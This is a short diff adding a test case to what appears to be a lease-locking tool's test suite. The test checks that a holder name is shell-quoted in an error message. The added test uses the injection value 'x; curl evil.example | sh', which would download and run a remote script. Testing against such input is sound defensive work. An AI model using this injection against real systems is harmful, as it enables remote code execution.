@@ -63,6 +63,9 @@ test('a living run’s place is taken only by repeating who holds it', async () 
   await expect(takeLeases(['pve1'], 'scripts/up', breakingOf({ breakLease: true, ask: undefined }))).rejects.toThrow(
     '--break-lease camille@laptop',
   )
+  const told = breakingOf({ breakLease: true, ask: undefined })
+  const found = { id: 'a', ageSeconds: 1, since: '', about: { ...camille, who: 'x; curl evil.example | sh' } }
+  await expect(told(found)).rejects.toThrow("--break-lease 'x; curl evil.example | sh'")
   const lease = await asking('camille@laptop')
   expect((await lookAtLease('pve1')).found?.id).toBe(lease.id)
   await lease.giveBack()
